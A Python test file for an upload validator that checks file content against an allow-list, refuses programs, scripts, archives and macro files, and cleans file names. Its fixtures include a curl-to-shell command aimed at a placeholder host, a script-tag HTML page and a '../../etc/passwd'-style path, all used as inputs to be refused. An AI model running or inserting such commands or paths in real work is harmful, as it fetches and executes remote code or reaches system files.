"""Evidence uploads: content sniffed against the allow-list, limits, safe names."""

from __future__ import annotations

import io
import struct
import wave
import zipfile
import zlib

import pytest

from cicdr.services.intake.uploads import (
    UploadLimits,
    UploadRejected,
    UploadsRejected,
    check_file,
    check_files,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def png() -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def wav() -> bytes:
    buf = io.BytesIO()
    with wave.open(buf, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(8000)
        out.writeframes(b"\x00\x00" * 80)
    return buf.getvalue()


def zipped(members: dict[str, str], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=method) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buf.getvalue()


def docx() -> bytes:
    return zipped({"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>",
                   "word/document.xml": "<w:document/>"})


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + b"\x00" * 64


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 60
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50 + b"PE\x00\x00"
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"
HINT = "Attach photos, PDF or office documents, audio or video."


@pytest.mark.parametrize(("name", "data", "mime", "category"), [
    ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 40, "image/jpeg", "image"),
    ("screenshot.png", png(), "image/png", "image"),
    ("IMG_0001.HEIC", ftyp(b"heic", b"mif1heic"), "image/heic", "image"),
    ("statement.pdf", PDF, "application/pdf", "pdf"),
    ("letter.docx", docx(), DOCX, "document"),
    ("rent.odt", zipped({"mimetype": "application/vnd.oasis.opendocument.text",
                         "content.xml": "<x/>"}, zipfile.ZIP_DEFLATED),
     "application/vnd.oasis.opendocument.text", "document"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
     + "WordDocument".encode("utf-16-le"), "application/msword", "document"),
    ("voice.wav", wav(), "audio/x-wav", "audio"),
    ("PTT-20240101.opus", b"OggS\x00\x02" + b"\x00" * 22 + b"OpusHead" + b"\x00" * 20,
     "audio/ogg", "audio"),
    ("memo.m4a", ftyp(b"M4A ", b"M4A mp42isom"), "audio/mp4", "audio"),
    ("call.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 10,
     "audio/mpeg", "audio"),
    ("clip.mp4", ftyp(b"isom", b"isomiso2avc1mp41"), "video/mp4", "video"),
    ("IMG_0002.MOV", ftyp(b"qt  ", b"qt  "), "video/quicktime", "video"),
    ("old-phone.3gp", ftyp(b"3gp5", b"3gp5isom"), "video/3gpp", "video"),
    ("notes.txt", "Fui insultado à entrada — olá\n".encode(), "text/plain", "text"),
])
def test_each_allowed_category_is_accepted_with_its_sniffed_type(name, data, mime, category):
    from cicdr.services.intake.uploads import ALLOWED

    checked = check_file(name, data)
    assert checked.content_type == mime
    assert checked.filename == name
    assert checked.data == data
    assert ALLOWED[mime][0] == category


@pytest.mark.parametrize(("name", "data", "what"), [
    ("photo.pdf", ELF, "a program"),
    ("photo.jpg", EXE, "a program"),
    ("invoice.pdf", SCRIPT, "a script"),
    ("selfie.jpg", HTML, "a web page"),
])
def test_disallowed_content_renamed_to_an_allowed_extension_is_refused(name, data, what):
    with pytest.raises(UploadRejected) as caught:
        check_file(name, data)
    claimed = name.rsplit(".", 1)[1].upper()
    assert caught.value.text == f"“{name}” is not a {claimed} file: its content is {what}. {HINT}"
    assert caught.value.filename == name


def test_a_program_under_its_own_name_is_refused_as_a_program():
    with pytest.raises(UploadRejected, match="“setup.exe” is a program"):
        check_file("setup.exe", EXE)


def test_a_zip_archive_is_refused_and_the_message_says_to_attach_the_files_themselves():
    data = zipped({"photo1.jpg": "x", "photo2.jpg": "y"})
    with pytest.raises(UploadRejected) as caught:
        check_file("photos.zip", data)
    assert caught.value.text == (
        "“photos.zip”: archives are not accepted; attach the files themselves.")


def test_a_docx_whose_word_folder_comes_late_is_still_a_document():
    data = zipped({"[Content_Types].xml": "<T/>", "_rels/.rels": "<R/>", "docProps/a.xml": "<a/>",
                   "docProps/b.xml": "<b/>", "customXml/1.xml": "<c/>", "xl/workbook.xml": "<w/>"})
    assert check_file("budget.xlsx", data).content_type == XLSX


def test_an_office_file_with_macros_is_refused():
    data = zipped({"[Content_Types].xml": "<T/>", "word/document.xml": "<d/>",
                   "word/vbaProject.bin": "\x00"})
    with pytest.raises(UploadRejected, match="contains macros"):
        check_file("letter.docx", data)


def test_an_allowed_type_with_the_wrong_extension_is_accepted_and_renamed():
    checked = check_file("photo.pdf", png())
    assert (checked.filename, checked.content_type) == ("photo.png", "image/png")


def test_plain_text_named_as_a_pdf_is_refused_because_text_has_no_signature():
    with pytest.raises(UploadRejected, match="its content is plain text"):
        check_file("report.pdf", b"just some words")


def test_text_with_nul_bytes_or_invalid_utf8_is_not_accepted_as_text():
    for data in (b"abc\x00def", b"caf\xe9 au lait"):
        with pytest.raises(UploadRejected, match="its content is of a kind we do not accept"):
            check_file("notes.txt", data)


def test_an_empty_file_is_refused():
    with pytest.raises(UploadRejected, match="“empty.jpg” is empty."):
        check_file("empty.jpg", b"")


def test_a_file_over_the_size_limit_is_refused_with_the_limit_in_words():
    with pytest.raises(UploadRejected) as caught:
        check_file("video.mp4", PDF, UploadLimits(max_file_bytes=20))
    assert caught.value.text == "“video.mp4” is larger than 20 bytes."


def test_the_message_comes_with_a_template_and_params_for_translation():
    with pytest.raises(UploadRejected) as caught:
        check_file("a.png", b"", UploadLimits())
    template, params = caught.value.translatable()
    assert template == "“{filename}” is empty."
    assert params == {"filename": "a.png"}
    assert caught.value.message == caught.value.text == str(caught.value)


def test_a_path_and_control_characters_are_removed_from_the_name():
    checked = check_file("../../etc/pass\x00wd\r\n", png())
    assert checked.filename == "passwd.png"
    assert check_file("C:\\Users\\ana\\foto\u202egpj.png", png()).filename == "fotogpj.png"
    assert check_file("\x01\x02.png", png()).filename == "file.png"
    assert check_file("...", PDF).filename == "file.pdf"
    assert check_file("my notes. final", PDF).filename == "my notes. final.pdf"


def test_a_long_name_is_cut_to_150_characters_keeping_the_extension():
    checked = check_file("é" * 300 + ".pdf", PDF)
    assert len(checked.filename) == 150
    assert checked.filename.endswith("é.pdf")


def test_too_many_files_are_refused():
    with pytest.raises(UploadsRejected) as caught:
        check_files([(f"{i}.pdf", PDF) for i in range(4)], UploadLimits(max_files=3))
    assert [e.text for e in caught.value.errors] == ["You can attach at most 3 files."]


def test_files_that_together_are_too_big_are_refused():
    limits = UploadLimits(max_file_bytes=1024, max_total_bytes=2048)
    big = PDF + b"%" * (1000 - len(PDF))
    assert len(check_files([("a.pdf", big), ("b.pdf", big)], limits)) == 2
    with pytest.raises(UploadsRejected) as caught:
        check_files([("a.pdf", big), ("b.pdf", big), ("c.pdf", big)], limits)
    assert [e.text for e in caught.value.errors] == ["Together the files are larger than 2 KB."]


def test_all_problems_are_reported_together():
    limits = UploadLimits(max_files=3, max_file_bytes=100, max_total_bytes=150)
    files = [("ok.png", png()), ("empty.jpg", b""), ("photo.pdf", ELF),
             ("big.pdf", PDF + b"%" * 100), ("x.zip", zipped({"a.txt": "a"}))]
    with pytest.raises(UploadsRejected) as caught:
        check_files(files, limits)
    texts = [e.text for e in caught.value.errors]
    assert texts[:2] == ["You can attach at most 3 files.",
                         "Together the files are larger than 150 bytes."]
    assert [e.filename for e in caught.value.errors[2:]] == [
        "empty.jpg", "photo.pdf", "big.pdf", "x.zip"]
    assert "“big.pdf” is larger than 100 bytes." in texts


def test_the_stored_type_comes_from_the_content_not_the_name():
    assert check_files([("scan.jpeg", png())])[0].content_type == "image/png"
